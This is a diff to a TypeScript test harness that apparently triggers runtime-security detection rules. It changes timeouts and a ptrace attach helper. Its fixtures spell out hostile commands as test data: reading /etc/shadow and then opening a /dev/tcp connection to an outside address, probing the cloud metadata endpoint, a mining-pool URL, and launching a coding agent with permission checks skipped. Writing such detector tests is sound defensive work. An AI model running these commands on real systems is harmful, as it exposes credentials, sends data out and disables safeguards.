@@ -15,7 +15,9 @@ const SHELL_ON_SOCKET = "$l = IO::Socket::INET->new(Listen => 1, LocalAddr => q(
 function attach(program: string): string {
   // A number, not text: perl hands over the address of a text.
   const call = "$p = $ARGV[0] + 0; syscall(101, 16, $p, 0, 0) == 0 or die; waitpid($p, 0)";
-  return `${program} & sleep 0.3; perl -e '${call}' $!; kill -9 $!; true`;
+  // Once it is no shell's image any more.
+  const isStarted = '[ "$(readlink /proc/$!/exe)" != "$(readlink /proc/$$/exe)" ]';
+  return `${program} & until ${isStarted}; do :; done; perl -e '${call}' $!; kill -9 $!; true`;
 }
 
 /** What each rule has to see. */
@@ -32,7 +34,7 @@ const DEEDS: readonly Deed[] = [
   {
     rule: "ai/ai_workload_metadata",
     program: "llama-server",
-    script: "$DIR/timeout 0.2 $DIR/llama-server -c ': >/dev/tcp/169.254.169.254/80'; true",
+    script: "$DIR/timeout 2 $DIR/llama-server -c ': >/dev/tcp/169.254.169.254/80'; true",
   },
   { rule: "ai/coin_miner_command_line", script: ": stratum+tcp://pool.example:3333" },
   { rule: "ai/coding_agent_guard_rails_off", script: ": claude --dangerously-skip-permissions" },
@@ -173,7 +175,7 @@ const SEQUENCES: readonly Deed[] = [
   {
     rule: "correlations/agent_secret_then_egress",
     program: AGENT,
-    script: "cat /etc/shadow; timeout 0.2 bash -c ': >/dev/tcp/203.0.113.7/443'; true",
+    script: "cat /etc/shadow; timeout 2 bash -c ': >/dev/tcp/203.0.113.7/443'; true",
   },
   {
     rule: "correlations/model_load_then_execution",
